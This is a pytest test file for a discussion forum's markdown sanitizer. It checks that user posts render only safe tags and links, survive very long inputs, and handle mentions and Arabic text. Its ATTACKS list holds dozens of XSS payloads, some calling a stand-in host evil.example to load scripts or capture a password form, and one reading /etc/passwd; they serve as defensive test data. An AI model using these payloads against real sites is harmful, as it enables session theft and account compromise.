"""Markdown that strangers write: an attack table, names, addresses, either direction of reading."""

import re
from html.parser import HTMLParser
from time import perf_counter

import pytest
from hypothesis import given
from hypothesis import strategies as st

from klinik.clinic.discussions.rules import LONGEST, with_names, with_numbers
from klinik.clinic.discussions.text import plain, posted

ALLOWED = {
    "p", "br", "strong", "em", "a", "ul", "ol", "li", "blockquote", "code", "pre", "hr", "h3", "h4",
}  # fmt: skip
ATTRIBUTES = {"href", "rel", "dir"}
ATTACKS = [
    "<script>alert(1)</script>",
    "<ScRiPt src=//evil.example/x.js></sCrIpT>",
    "<img src=x onerror=alert(1)>",
    "<svg/onload=alert(1)>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<iframe src='javascript:alert(1)'></iframe>",
    "<math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<details open ontoggle=alert(1)>",
    "<a href='javascript:alert(1)'>klik</a>",
    "<div style='background:url(javascript:alert(1))'>x</div>",
    "<style>@import 'https://evil.example/x.css'</style>",
    "<base href='https://evil.example/'>",
    "<meta http-equiv=refresh content='0;url=https://evil.example/'>",
    "<form action=https://evil.example><input name=password></form>",
    "<object data='data:text/html,<script>alert(1)</script>'></object>",
    "<p id=content class=notice hx-get=/keluar/ hx-trigger=load>x</p>",
    "<b data-copy=x data-who=1 onclick=alert(1)>x</b>",
    "[klik](javascript:alert(1))",
    "[klik](JaVaScRiPt:alert(1))",
    "[klik](java\tscript:alert(1))",
    "[klik](&#106;avascript:alert(1))",
    "[klik](javascript&colon;alert(1))",
    "[klik](\u0001javascript:alert(1))",
    "[klik](vbscript:msgbox(1))",
    "[klik](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "[klik](data:image/svg+xml;base64,PHN2Zy8+)",
    "[klik](file:///etc/passwd)",
    "[klik](blob:https://evil.example/1)",
    "[klik]: javascript:alert(1)\n\n[klik]",
    "<javascript:alert(1)>",
    "<data:text/html,x>",
    "![](javascript:alert(1))",
    "![jejak](https://evil.example/pixel.gif)",
    "![x](https://evil.example/p.gif \"onerror='alert(1)'\")",
    "[![x](https://evil.example/p.gif)](https://ok.example)",
    "![x][r]\n\n[r]: https://evil.example/p.gif",
    "[x](https://ok.example \"' onmouseover=alert(1) x='\")",
    '[x](https://ok.example/"onmouseover=alert(1))',
    'https://ok.example/"onmouseover=alert(1)',
    "https://ok.example/<script>alert(1)</script>",
    "https://ok.example/'onmouseover='alert(1)",
    "@{1}<script>alert(1)</script>",
    "`<script>alert(1)</script>`",
    "```html\n<script>alert(1)</script>\n```",
    "    <script>alert(1)</script>",
    "> <img src=x onerror=alert(1)>",
    "- <img src=x onerror=alert(1)>",
    "# <img src=x onerror=alert(1)>",
    "<!-- --!><img src=x onerror=alert(1)> -->",
    "<![CDATA[<img src=x onerror=alert(1)>]]>",
    "<?php echo 1 ?><img src=x onerror=alert(1)>",
    "&lt;img src=x onerror=alert(1)&gt;",
    "&#60;script&#62;alert(1)&#60;/script&#62;",
    "\\<script>alert(1)\\</script>",
    "<<script>script>alert(1)<</script>/script>",
    "\u202e<script>alert(1)</script>",
]


class Reader(HTMLParser):
    """What a browser makes of it: tags, their attributes, and the text."""

    def __init__(self, html: str) -> None:
        super().__init__(convert_charrefs=True)
        self.tags: set[str] = set()
        self.attributes: set[str] = set()
        self.links: list[str] = []
        self.feed(html)
        self.close()

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.add(tag)
        self.attributes |= {name for name, _ in attrs}
        self.links += [value or "" for name, value in attrs if name == "href"]

    def handle_comment(self, data: str) -> None:
        self.tags.add("!comment")

    def handle_decl(self, decl: str) -> None:
        self.tags.add("!declaration")


def harmless(html: str) -> None:
    read = Reader(html)

    assert read.tags <= ALLOWED
    assert read.attributes <= ATTRIBUTES
    assert all(re.match(r"(https?://|mailto:)", link) for link in read.links)
    assert html.count("<a ") == html.count('rel="nofollow ugc noopener noreferrer"')


@pytest.mark.parametrize("attack", ATTACKS)
def test_nothing_that_strangers_write_runs_or_loads_anything(attack: str) -> None:
    harmless(posted(attack, {1: "<img src=x onerror=alert(1)>"}))
    harmless(posted(f"Halo\n\n> {attack}\n\n1. {attack}\n   - {attack}", {1: "Siti"}))


@given(
    st.text(
        st.characters(codec="utf-8") | st.sampled_from("<>[]()!`*_@{}&\"'=:/\n# "), max_size=300
    )
)
def test_whatever_is_typed_is_harmless(text: str) -> None:
    harmless(posted(text, {1: "Siti <b>"}))


@pytest.mark.parametrize(
    "huge",
    [
        "[" * LONGEST,
        "![" * (LONGEST // 2),
        "> " * (LONGEST // 2),
        "*a_ " * (LONGEST // 4),
        "- " * (LONGEST // 2),
        "`" * LONGEST,
        "<" * LONGEST,
        "&" * LONGEST,
        "[a](" * (LONGEST // 4),
        "http://" * (LONGEST // 7),
        "@{1}" * (LONGEST // 4),
        "\\" * LONGEST,
        "a\n" * (LONGEST // 2),
        "**" * (LONGEST // 2),
    ],
)
def test_a_long_text_does_not_hold_up_the_page(huge: str) -> None:
    began = perf_counter()
    harmless(posted(huge, {1: "Siti"}))

    assert perf_counter() - began < 2


def test_what_people_mean_is_kept() -> None:
    html = posted(
        "# Judul\n\n**Tebal** dan _miring_\n\n- satu\n- dua\n\n[sini](https://a.example)", {}
    )

    assert html == (
        '<h3 dir="auto">Judul</h3>\n'
        '<p dir="auto"><strong>Tebal</strong> dan <em>miring</em></p>\n'
        '<ul>\n<li dir="auto">satu</li>\n<li dir="auto">dua</li>\n</ul>\n'
        '<p dir="auto"><a href="https://a.example" rel="nofollow ugc noopener noreferrer">'
        "sini</a></p>\n"
    )


def test_a_bare_address_becomes_a_link_without_the_sign_behind_it() -> None:
    html = posted("Lihat https://a.example/x_y_z?a=1&b=2. Lalu `https://b.example`", {})

    assert Reader(html).links == ["https://a.example/x_y_z?a=1&b=2"]
    assert "</a>. Lalu <code>https://b.example</code>" in html


def test_arabic_reads_from_the_right_by_itself() -> None:
    assert posted("السلام عليكم", {}) == '<p dir="auto">السلام عليكم</p>\n'
    assert '<blockquote dir="auto">' in posted("> وَتَعَاوَنُوا", {})


def test_people_are_named_by_their_number() -> None:
    people = {"Siti": 1, "Siti Contoh": 2}
    marked, found = with_numbers(
        "@siti contoh dan @Siti, bukan a@Siti.example atau @Sitirahma", people
    )

    assert marked == "@{2} dan @{1}, bukan a@Siti.example atau @Sitirahma"
    assert found == {1, 2}
    assert with_names(marked, {1: "Siti", 2: "Siti Contoh"}) == (
        "@Siti Contoh dan @Siti, bukan a@Siti.example atau @Sitirahma"
    )
    assert "<strong>@Orang &lt;b&gt;</strong>" in posted("@{2}", {2: "Orang <b>"})


def test_a_number_that_somebody_types_names_nobody() -> None:
    assert with_numbers("@{7}", {"Siti": 1}) == ("@{7}", set())
    assert posted("@{7}", {1: "Siti"}) == '<p dir="auto">@{7}</p>\n'
    assert plain("Kata @{7}", {}, most=100) == "Kata @…"


def test_one_line_of_it() -> None:
    assert plain("# A\n\n- **b** ![x](https://e.example/p.gif)\n- c", {}, most=100) == "A b c"
    assert plain("kata " * 100, {}, most=10) == "kata kata…"
